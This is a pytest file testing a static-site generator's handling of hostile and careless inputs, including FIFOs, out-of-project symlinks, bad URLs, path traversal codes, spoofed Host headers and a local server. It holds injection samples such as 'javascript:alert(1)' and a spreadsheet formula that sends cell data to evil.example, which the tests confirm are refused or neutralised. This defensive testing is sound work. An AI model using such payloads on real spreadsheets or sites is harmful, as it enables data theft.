"""Careless and hostile inputs that are not one YAML or Markdown file: each ends in one clear line and a documented exit code.

File-content cases live in ``tests/broken/`` (one file each). These need more
than a file: special files in ``content/``, command-line values, a running
server. Nothing here touches a real system path; special files are made in
temporary folders.
"""

from __future__ import annotations

import csv
import http.client
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import run_cli
from test_broken_inputs import ENV, make_project


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "project", essays=False)


def _validate(project: Path) -> subprocess.CompletedProcess[str]:
    return run_cli("validate", cwd=project, env=ENV, timeout=60)  # a FIFO read would hang: the timeout fails the test


def _one_problem(result: subprocess.CompletedProcess[str], where: str, text: str) -> None:
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
    assert re.search(rf"^{re.escape(where)}(:\d+)*: error: .*{re.escape(text)}", result.stderr, re.M), result.stderr


# --- special files in content/ -----------------------------------------------------------------


def test_a_fifo_named_like_a_country_file_is_refused_without_reading(project: Path) -> None:
    os.mkfifo(project / "content" / "countries" / "jp.yaml")
    _one_problem(_validate(project), "content/countries/jp.yaml", "is not a regular file (a device, FIFO or socket)")


def test_a_folder_named_like_a_country_file(project: Path) -> None:
    (project / "content" / "countries" / "jp.yaml").mkdir()
    _one_problem(_validate(project), "content/countries/jp.yaml", "is a folder; content files must be plain files")


def test_a_symlink_out_of_the_project_is_not_followed(project: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:do-not-echo\n", encoding="utf-8")
    (project / "content" / "countries" / "jp.yaml").symlink_to(secret)
    result = _validate(project)
    _one_problem(result, "content/countries/jp.yaml", "is a symbolic link to a file outside the project")
    assert "do-not-echo" not in result.stderr


def test_a_symlink_to_an_endless_file_outside_is_refused_before_reading(project: Path, tmp_path: Path) -> None:
    """Stands in for /dev/zero: a sparse file far over the size limit, outside the project."""
    huge = tmp_path / "huge.yaml"
    with huge.open("wb") as f:
        f.truncate(50 * 1024**3)  # 50 GiB of holes, no disk used
    (project / "content" / "countries" / "jp.yaml").symlink_to(huge)
    _one_problem(_validate(project), "content/countries/jp.yaml", "is a symbolic link to a file outside the project")
    (project / "content" / "countries" / "jp.yaml").unlink()
    inside = project / "content" / "big.bin"
    with inside.open("wb") as f:
        f.truncate(50 * 1024**3)
    (project / "content" / "countries" / "jp.yaml").symlink_to(inside)
    _one_problem(_validate(project), "content/countries/jp.yaml", "file is 53,687,091,200 bytes; the limit is 1,000,000 bytes")


def test_a_symlink_within_the_project_is_followed(project: Path) -> None:
    countries = project / "content" / "countries"
    (project / "shared-kr.yaml").write_bytes((countries / "kr.yaml").read_bytes())
    (countries / "kr.yaml").unlink()
    (countries / "kr.yaml").symlink_to(project / "shared-kr.yaml")
    result = _validate(project)
    assert result.returncode == 0, result.stderr


def test_a_dangling_symlink(project: Path) -> None:
    (project / "content" / "countries" / "jp.yaml").symlink_to(project / "content" / "gone.yaml")
    _one_problem(_validate(project), "content/countries/jp.yaml", "is a symbolic link to a file that does not exist")


# --- command-line values -----------------------------------------------------------------------


@pytest.mark.parametrize("url", ["javascript:alert(1)", "ftp://example.org", "https://", "example.org", 'https://a.example/"><x>'])
def test_site_url_must_be_http(project: Path, tmp_path: Path, url: str) -> None:
    result = run_cli("build", "--no-search", "--site-url", url, "--output", str(tmp_path / "out"), cwd=project, env=ENV)
    assert result.returncode == 2, result.stderr
    assert "expected an http:// or https:// address" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("code", "message"),
    [
        ("xx", "'xx' is not an ISO 3166-1 alpha-2 country code"),
        ("zz-999", "'zz-999' is not an ISO 3166-2 subdivision code"),
        ("jp\n", "'jp\\n' is not a valid code"),
        ("../x", "'../x' is not a valid code"),
        ("uk", "did you mean gb?"),
    ],
)
def test_new_country_refuses_what_the_loader_would_refuse(project: Path, code: str, message: str) -> None:
    before = sorted(p.name for p in (project / "content" / "countries").iterdir())
    result = run_cli("new-country", "--project", str(project), code)
    assert result.returncode == 1, result.stderr
    assert message in result.stderr and "Traceback" not in result.stderr
    assert sorted(p.name for p in (project / "content" / "countries").iterdir()) == before


def test_new_country_when_countries_is_a_file(tmp_path: Path) -> None:
    project = tmp_path / "p"
    (project / "content").mkdir(parents=True)
    (project / "content" / "countries").write_text("not a folder", encoding="utf-8")
    result = run_cli("new-country", "--project", str(project), "jp")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "is not a folder" in result.stderr


def test_a_cache_that_cannot_be_written_turns_itself_off_with_a_warning(project: Path, tmp_path: Path) -> None:
    (project / ".sovereign-cache").write_text("a file where the cache folder goes", encoding="utf-8")
    result = run_cli("build", "--no-search", "--output", str(tmp_path / "out"), cwd=project, env=ENV)
    assert result.returncode == 0, result.stderr
    assert "warning: the build cache is off: cannot write" in result.stderr
    assert (tmp_path / "out" / "index.html").is_file()


# --- CSV downloads ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_csv_cells_cannot_start_a_formula(project: Path, tmp_path: Path) -> None:
    kr = project / "content" / "countries" / "kr.yaml"
    text = kr.read_text(encoding="utf-8")
    # The first funding item's English label, then its Korean one, become formulas.
    start = text.index("funding:")
    label = re.compile(r"label: \{ko: ([^,]+), en: ([^}]+)\}")
    match = label.search(text, start)
    assert match
    hostile = f"label: {{ko: {FORMULAS[1]!r}, en: {_yaml_quote(FORMULAS[0])}}}"
    kr.write_text(text[: match.start()] + hostile + text[match.end() :], encoding="utf-8")
    out = tmp_path / "out"
    result = run_cli("build", "--no-search", "--output", str(out), cwd=project, env=ENV)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader((out / "data" / "figures.csv").open(encoding="utf-8", newline="")))
    labels = [(r["label_ko"], r["label_en"]) for r in rows]
    assert ("'" + FORMULAS[1], "'" + FORMULAS[0]) in labels, labels
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # The JSON keeps the text as written: only the spreadsheet format needs the guard.
    assert FORMULAS[0].replace('"', '\\"') in (out / "data" / "sovereign-ai.json").read_text(encoding="utf-8")


def _yaml_quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def test_csv_guard_covers_every_formula_start() -> None:
    from sovereign_site.pages.downloads import safe_cell

    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("ordinary text") == "ordinary text" and safe_cell("1.5") == "1.5" and safe_cell(3) == 3


# --- serve ---------------------------------------------------------------------------------------


def _start_serve(project: Path, tmp_path: Path, *args: str) -> tuple[subprocess.Popen[str], str]:
    proc = subprocess.Popen(
        [sys.executable, "-m", "sovereign_site", "serve", "--project", str(project), "--no-search", *args],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True, env={**os.environ, **ENV},
    )  # fmt: skip
    return proc, str(tmp_path)


def test_serve_without_settings_says_so(tmp_path: Path) -> None:
    result = run_cli("serve", "--project", str(tmp_path), "--port", "0")
    assert result.returncode == 1, result.stderr
    assert "no pelicanconf.py here" in result.stderr and "Traceback" not in result.stderr


def test_serve_on_a_port_in_use_says_so(project: Path, tmp_path: Path) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = run_cli("serve", "--project", str(project), "--port", str(port), "--output", str(tmp_path / "out"), env=ENV, timeout=60)
    assert result.returncode == 1, result.stderr
    assert f"cannot listen on 127.0.0.1:{port}" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists(), "nothing is built when the server cannot start"


def test_serve_refuses_a_foreign_output_and_stops(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    result = run_cli("serve", "--project", str(project), "--port", "0", "--output", str(out), env=ENV, timeout=60)
    assert result.returncode == 1, result.stderr
    assert "no build made it; refusing to replace it" in result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]


def test_serve_refuses_the_project_folder(project: Path) -> None:
    result = run_cli("serve", "--project", str(project), "--port", "0", "--output", ".", cwd=project, env=ENV, timeout=60)
    assert result.returncode == 2, result.stderr
    assert "refusing to use this as the output folder: it is the project folder" in result.stderr


@pytest.fixture
def served(project: Path, tmp_path: Path):
    proc = subprocess.Popen(
        [sys.executable, "-m", "sovereign_site", "serve", "--project", str(project), "--no-search", "--port", "0", "--output", str(tmp_path / "out")],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True, env={**os.environ, **ENV},
    )  # fmt: skip
    port = None
    deadline = time.monotonic() + 120
    assert proc.stdout
    while port is None and time.monotonic() < deadline:
        line = proc.stdout.readline()
        found = re.search(r"at http://127\.0\.0\.1:(\d+)/", line)
        port = int(found.group(1)) if found else None
    assert port, "serve never said where it listens"
    yield port
    os.killpg(proc.pid, signal.SIGINT)
    proc.wait(timeout=30)


def _request(port: int, path: str, host: str) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    conn.putrequest("GET", path, skip_host=True)
    conn.putheader("Host", host)
    conn.endheaders()
    response = conn.getresponse()
    return response.status, response.read()


def test_serve_answers_only_to_local_names(served: int) -> None:
    assert _request(served, "/", f"127.0.0.1:{served}")[0] == 200
    assert _request(served, "/", f"localhost:{served}")[0] == 200
    status, body = _request(served, "/", "evil.example")
    assert status == 403 and b"127.0.0.1" in body
    assert _request(served, "/", f"evil.example:{served}")[0] == 403


def test_serve_answers_404_to_an_overlong_path_segment(served: int) -> None:
    status, _ = _request(served, "/" + "a" * 300 + "/index.html", f"127.0.0.1:{served}")
    assert status == 404
    assert _request(served, "/", f"127.0.0.1:{served}")[0] == 200  # still serving


# --- cases a root user cannot make for real: simulated in process ---------------------------------


def test_an_unreadable_file_is_named_not_a_traceback(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tests run as root, for whom chmod 000 changes nothing; the read itself is made to fail."""
    import errno

    from sovereign_site.validate import validate

    target = project / "content" / "countries" / "kr.yaml"
    real_open = Path.open

    def refuse(self: Path, *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
        if self == target:
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Path, "open", refuse)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", ENV["SOURCE_DATE_EPOCH"])
    problems = [str(p) for p in validate(project)]
    assert any(p.startswith("content/countries/kr.yaml: error: cannot read the file: Permission denied") for p in problems), problems


def test_new_country_on_a_read_only_disk_says_so(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from click.testing import CliRunner

    from sovereign_site.cli import main

    real_open = Path.open

    def read_only(self: Path, mode: str = "r", *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
        if "x" in mode or "w" in mode:
            raise OSError(errno.EROFS, "Read-only file system", str(self))
        return real_open(self, mode, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Path, "open", read_only)
    result = CliRunner().invoke(main, ["new-country", "--project", str(project), "jp"])
    assert (result.exit_code == 1 and result.exception is None) or isinstance(result.exception, SystemExit)
    assert "cannot write" in result.output and "Read-only file system" in result.output
    assert not (project / "content" / "countries" / "jp.yaml").exists()


@pytest.mark.parametrize("rate", ["1e-320", "1e309", "0"])
def test_an_absurd_exchange_rate_is_refused(project: Path, rate: str) -> None:
    fx = project / "content" / "fx.yaml"
    text = fx.read_text(encoding="utf-8")
    first = re.search(r"per_usd: ([0-9.]+)", text)
    assert first
    fx.write_text(text[: first.start(1)] + rate + text[first.end(1) :], encoding="utf-8")
    line = text[: first.start()].count("\n") + 1
    _one_problem(_validate(project), f"content/fx.yaml:{line}", "rates.")


def test_two_pages_with_one_slug_are_refused(project: Path) -> None:
    pages = project / "content" / "pages"
    about = next(pages.glob("*.md"))
    (pages / "copy.md").write_text(about.read_text(encoding="utf-8"), encoding="utf-8")
    result = _validate(project)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert re.search(
        r"^content/pages/(copy|about)\.md:\d+: error: slug: slug 'about' \((ko|en)\) is already used by content/pages/about",
        result.stderr,
        re.M,
    ), result.stderr


def test_a_build_without_essays_dates_its_essay_feed_from_the_data(project: Path, tmp_path: Path) -> None:
    """Pelican stamps an empty feed with the clock; ours carries the dataset's date, so builds reproduce."""
    for essay in (project / "content" / "essays").glob("*.md"):
        essay.unlink()
    out = tmp_path / "out"
    assert run_cli("build", "--no-search", "--output", str(out), cwd=project, env=ENV).returncode == 0
    feed = (out / "feeds" / "essays.atom.xml").read_text(encoding="utf-8")
    as_of = re.search(r"^as_of: (\S+)", (project / "content" / "countries" / "kr.yaml").read_text(encoding="utf-8"), re.M)
    assert as_of and f"<updated>{as_of.group(1)}T00:00:00+00:00</updated>" in feed, feed
